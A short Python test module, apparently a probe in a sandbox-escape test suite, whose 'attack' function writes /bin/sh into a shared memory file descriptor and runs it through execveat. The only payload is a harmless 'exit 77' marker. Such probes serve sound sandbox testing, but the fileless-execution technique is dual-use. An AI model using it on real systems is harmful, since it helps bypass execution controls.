"""Becomes a program that it has written into the memory that it shares with the driver."""

import ctypes
import os
from pathlib import Path

from kit import keeping_memory, kept_memory, syscall

KIND = "done"
EVIDENCE = "exited with code 77"
pack = keeping_memory


def attack(canary):
    fd = kept_memory()
    os.pwrite(fd, Path("/bin/sh").read_bytes(), 0)
    words = (ctypes.c_char_p * 4)(b"sh", b"-c", b"exit 77", None)
    syscall("execveat", fd, b"", words, None, 0x1000)
